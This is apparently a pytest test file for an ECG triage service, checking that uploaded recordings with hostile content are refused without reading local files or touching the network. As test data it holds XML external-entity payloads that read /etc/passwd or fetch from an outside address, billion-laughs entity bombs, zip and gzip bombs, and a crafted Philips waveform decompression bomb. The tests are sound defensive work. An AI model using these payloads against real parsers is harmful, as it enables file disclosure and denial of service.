"""Whatever bytes come, the answer is a verdict with a reason: no exception, no network, no file of this machine."""

import base64
import gzip
import io
import random
import re
import struct
import sys
import warnings
import zipfile
from collections.abc import Sequence

import pytest
from ecgdatakit.parsing.codecs.xli import xli_decode

from contracts.assessments import Reading
from contracts.vocabulary import Priority
from services.runtime.archive import UploadedFile
from services.triage.decode.xli import unpacked_bytes
from services.triage.reading import read, warm_up
from services.triage.recording import Recording
from tests.unit.triage.cart_files import without_checksums

_OURS = ("/proc/self/fd/", "/dev/shm/greenchannel-")
_seen: list[str] = []
_listening = False


def _listen(event: str, args: tuple[object, ...]) -> None:
    if _listening and (event.startswith(("socket.", "urllib.", "subprocess.")) or (event == "open" and isinstance(args[0], str))):
        _seen.append(f"{event} {args[0]}")


sys.addaudithook(_listen)  # a hook cannot be taken away again, so it is switched


def read_watched(files: Sequence[UploadedFile]) -> tuple[Reading, Recording | None]:
    """Read, and fail where anything was opened or connected to but our own memory."""
    global _listening  # noqa: PLW0603
    _seen.clear()
    _listening = True
    try:
        return read(files, age_y=None, sex=None)
    finally:
        _listening = False
        assert [what for what in _seen if not any(ours in what for ours in _OURS)] == []


@pytest.fixture(scope="module", autouse=True)
def _warm() -> None:
    warm_up()


def verdict(*files: UploadedFile) -> str:
    reading, recording = read_watched(files)
    assert reading.priority is Priority.NOT_EVALUABLE
    assert not reading.quality.evaluable
    assert recording is None
    (problem,) = reading.quality.problems
    assert problem.text.endswith(".")
    return problem.code


BOMB = b'<?xml version="1.0"?><!DOCTYPE restingecgdata [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (97 + n, b"&%c;" % (96 + n) * 10) for n in range(1, 20)
) + b"]><restingecgdata>&t;</restingecgdata>"  # fmt: skip
FILE = b'<?xml version="1.0"?><!DOCTYPE RestingECG [<!ENTITY x SYSTEM "file:///etc/passwd">]><RestingECG><A>&x;</A></RestingECG>'
HTTP = b'<?xml version="1.0"?><!DOCTYPE AnnotatedECG [<!ENTITY x SYSTEM "http://192.0.2.1/x">]><AnnotatedECG>&x;</AnnotatedECG>'
PARAMETER = b'<?xml version="1.0"?><!DOCTYPE RestingECG [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><RestingECG/>'


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("content", [BOMB, FILE, HTTP, PARAMETER], ids=["bomb", "file", "http", "parameter"])
def test_an_xml_file_with_entities_is_refused_unread(content, encoding):
    assert verdict(UploadedFile("a.xml", content.decode().encode(encoding))) == "hostile"


def test_an_outside_document_type_is_not_fetched(uploaded):
    (file,) = uploaded("vendor/muse/synthetic_muse.xml")
    assert b'SYSTEM "restecg.dtd"' in file.content
    reading, _ = read_watched([UploadedFile("a.xml", file.content.replace(b"restecg.dtd", b"http://192.0.2.1/restecg.dtd"))])
    assert reading.priority is Priority.GREEN  # carts write such a line, and it is never followed


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as container:
        container.writestr("a.xml", b"0" * 20_000_000)
    return out.getvalue()


@pytest.mark.parametrize("content", [_zip_bomb(), gzip.compress(b"0" * 20_000_000)], ids=["zip", "gzip"])
def test_a_compressed_file_is_refused_without_unpacking(content):
    assert verdict(UploadedFile("a.xml", content)) == "compressed"


def test_a_deflated_dicom_file_is_refused_without_unpacking():
    content = bytes(128) + b"DICM" + b"\x02\x00\x10\x00UI\x16\x001.2.840.10008.1.2.1.99" + bytes(1000)
    assert verdict(UploadedFile("a.dcm", content)) == "compressed"


ENCAPSULATED, SECONDARY_CAPTURE, TWELVE_LEADS = "1.2.840.10008.5.1.4.1.1.104.1", "1.2.840.10008.5.1.4.1.1.7", "1.2.840.10008.5.1.4.1.1.9.1.1"


def dicom_of(stored_class: str) -> bytes:
    uid = stored_class.encode() + bytes(len(stored_class) % 2)
    return bytes(128) + b"DICM" + b"\x02\x00\x02\x00UI" + struct.pack("<H", len(uid)) + uid + bytes(1000)


@pytest.mark.parametrize(
    "content",
    [
        *(b"%PDF-1.7 ...", b"\x89PNG\r\n", b"\xff\xd8\xff\xe0", b"GIF89a", b"II*\x00\x08", b"MM\x00*\x00", b"RIFF\x24\x00\x00\x00WEBPVP8 "),
        *(b"\x00\x00\x00\x18ftypheic", dicom_of(ENCAPSULATED), dicom_of(SECONDARY_CAPTURE)),
    ],
    ids=["pdf", "png", "jpeg", "gif", "tiff", "tiff of a mac", "webp", "heic", "pdf in dicom", "picture in dicom"],
)
def test_a_picture_of_an_ecg_is_kept_for_a_person_to_read_and_says_so(content):
    reading, recording = read_watched([UploadedFile("ecg.xml", content)])
    assert (reading.priority, recording) == (Priority.NOT_EVALUABLE, None)
    (problem,) = reading.quality.problems
    assert problem.code == "picture"
    assert "kept for people to read" in problem.text
    assert "no rule can judge it" in problem.text
    assert "Have a person read the ECG now" in problem.text


def test_a_dicom_file_of_twelve_leads_that_is_damaged_is_no_picture():
    assert verdict(UploadedFile("a.dcm", dicom_of(TWELVE_LEADS))) == "undecodable"


def ten_bit(codes: Sequence[int]) -> bytes:
    bits = "".join(f"{code:010b}" for code in codes)
    return int(bits.ljust(-(-len(bits) // 8) * 8, "0"), 2).to_bytes(-(-len(bits) // 8), "big")


def philips_of(uploaded, packed: bytes) -> UploadedFile:
    (file,) = uploaded("vendor/philips-1.03/129DYNRG.XML")
    return UploadedFile("a.xml", re.sub(rb"(<parsedwaveforms[^>]*>)[^<]*<", rb"\g<1>" + base64.b64encode(packed) + b"<", file.content))


@pytest.mark.timeout(20)
def test_a_small_file_that_unpacks_to_gigabytes_is_refused_before_it_is_unpacked(uploaded):
    stream = ten_bit([65, *range(256, 1023), *[1022] * 400_000])  # each string is one longer than the one before: the last is 768 bytes
    bomb = philips_of(uploaded, struct.pack("<iHh", len(stream), 0, 0) + stream)
    assert len(bomb.content) < 1_000_000
    assert verdict(bomb) == "too_large"


@pytest.mark.parametrize("path", ["vendor/philips-1.03/129DYNRG.XML", "vendor/philips-1.04/3191723_ZZDEMOPTONLY_1-04_orig.xml"])
def test_what_a_philips_waveform_unpacks_to_is_told_to_the_byte(uploaded, path):
    (file,) = uploaded(path)
    text = file.content.decode("utf-16" if file.content.startswith(b"\xff\xfe") else "utf-8")
    packed = re.search(r"<parsedwaveforms[^>]*>([^<]*)<", text)
    assert packed is not None
    unpacked = xli_decode(base64.b64decode("".join(packed[1].split())))
    assert unpacked_bytes(packed[1]) == sum(2 * lead.size for lead in unpacked) == 16 * 11_000


@pytest.mark.parametrize(
    "start", [b"<?xml " + b'encoding="a" ' * 90_000, b'\n<?xml version="1.0" encoding="punycode"?><restingecg>' + b"a" * 3_000_000]
)
@pytest.mark.timeout(20)  # hours, both of them
def test_an_xml_declaration_made_to_take_long_is_refused(start):
    assert verdict(UploadedFile("a.xml", start)) == "undecodable"


def test_samples_written_out_beyond_all_measure_are_refused(uploaded):
    (file,) = uploaded("vendor/aecg/subject1_0.xml")
    assert verdict(UploadedFile("a.xml", re.sub(rb"<digits>[^<]*", b"<digits>" + b"1 " * 700_000, file.content, count=1))) == "too_large"


def scp_with(content: bytes, section: int, at: int, value: bytes) -> bytes:
    pointers = (struct.unpack_from("<HII", content, place) for place in range(22, 142, 10))
    start = next(index - 1 + 16 for number, _, index in pointers if number == section)
    return content[: start + at] + value + content[start + at + len(value) :]


@pytest.mark.parametrize(
    ("section", "at", "value", "code"),
    [
        (3, 0, b"\xff", "too_large"),  # leads
        (3, 6, b"\xff\xff\xff\xff", "too_large"),  # the last sample of the first of them
        (4, 4, b"\xff\xff", "too_large"),  # beats, each added to each lead
        (6, 6, b"\xff\xff", "undecodable"),  # bytes of the first lead
    ],
)
def test_counts_in_an_scp_file_that_no_recording_has_are_refused(uploaded, section, at, value, code):
    (file,) = uploaded("vendor/one-recording/Example.scp")
    assert verdict(UploadedFile("a.scp", scp_with(without_checksums(file.content), section, at, value))) == code


@pytest.mark.parametrize("more", [(b"\xfe\xff\x00\xe0" + bytes(4)) * 6_000, bytes(8) * 400_000], ids=["items", "elements"])
def test_a_dicom_file_of_countless_parts_is_refused(uploaded, more):
    (file,) = uploaded("vendor/one-recording/Example.dcm")
    assert verdict(UploadedFile("a.dcm", file.content + more)) == "too_large"


def test_signals_beyond_all_measure_are_refused():
    header = b"r 1 500 20000000\ns.dat 16 1000/mV 16 0 0 0 0 I\n"
    assert verdict(UploadedFile("r.hea", header), UploadedFile("s.dat", bytes(40_000_000))) == "too_large"
    assert verdict(UploadedFile("r.hea", header), UploadedFile("s.dat", bytes(40))) == "undecodable"


@pytest.mark.parametrize("content", [b"", b"\n", b"<", b"<html/>", b"<a" * 50_000, b"DICM", bytes(132), bytes(128) + b"DICM", b"\xff\xfe<\x00"])
def test_scraps_are_refused(content):
    assert verdict(UploadedFile("a", content))


def test_nothing_sent_is_not_evaluable():
    assert verdict() == "empty"


@pytest.mark.parametrize(("depth", "code"), [(40_000, "undecodable"), (200_000, "too_large")])
def test_xml_nested_without_end_is_refused(depth, code):
    assert verdict(UploadedFile("a.xml", b"<restingecgdata>" + b"<a>" * depth + b"</a>" * depth + b"</restingecgdata>")) == code


@pytest.mark.parametrize("content", [b"\n" * 4_000_000, b"#\n" * 2_000_000, b" " * 4_000_000 + b"r", b"a/" * 2_000_000, b"<a/>" * 1_000_000])
@pytest.mark.timeout(20)  # these took minutes, or did not end, before their cost was bounded
def test_bytes_made_to_take_long_are_refused(content):
    assert verdict(UploadedFile("a", content))
    assert verdict(UploadedFile("a", b"<restingecgdata>" + content[:7_000_000] + b"</restingecgdata>"))


def test_random_bytes_are_refused():
    chance = random.Random(3)
    starts = [b"", bytes(128) + b"DICM", b"<restingecgdata>", b"\x00" * 6, b"r 12 500 5000\n", b"\xff\xfe<\x00r\x00"]
    for _ in range(120):
        assert verdict(UploadedFile("a.hea", chance.choice(starts) + chance.randbytes(chance.randrange(1, 4000))))


CUT = (
    "vendor/one-recording/Example.scp", "vendor/one-recording/Example.dcm", "vendor/one-recording/Example.xml",
    "vendor/muse/guangxi_teaching_sinus_rhythm.xml", "vendor/philips-1.03/129DYNRG.XML", "vendor/philips-1.04/ad4d3d80-d165_1-04_orig.xml",
)  # fmt: skip


@pytest.mark.parametrize("path", CUT)
def test_a_file_cut_short_is_refused(uploaded, path):
    (file,) = uploaded(path)
    for share in (0.02, 0.3, 0.7, 0.97):
        assert verdict(UploadedFile(file.name, file.content[: int(share * len(file.content))]))


@pytest.mark.parametrize("path", CUT)
def test_a_file_with_flipped_bytes_gives_a_verdict_and_no_warning(uploaded, path):
    (file,) = uploaded(path)
    chance = random.Random(7)
    with warnings.catch_warnings(record=True) as said:
        warnings.simplefilter("always")
        for _ in range(12):
            content = bytearray(file.content)
            for _ in range(chance.choice((1, 20, 400))):
                content[chance.randrange(len(content))] = chance.randrange(256)
            reading, _ = read_watched([UploadedFile("a", bytes(content))])
            assert reading.priority in Priority
    assert said == []  # a library's warning quotes what it was given


def test_a_wfdb_signal_file_cut_short_is_refused(uploaded):
    header, signal = uploaded("challenge/A0002.hea")
    assert verdict(header, UploadedFile(signal.name, signal.content[:20_000])) == "undecodable"
    assert verdict(header) == "signal_file_missing"


def test_every_bad_file_of_the_collection_is_not_evaluable(uploaded, manifest):
    bad = [row["file"] for row in manifest if row["category"] == "BAD INPUT"]
    assert bad
    for path in bad:
        reading, _ = read_watched(uploaded(path))
        assert reading.priority is Priority.NOT_EVALUABLE
        assert reading.quality.problems
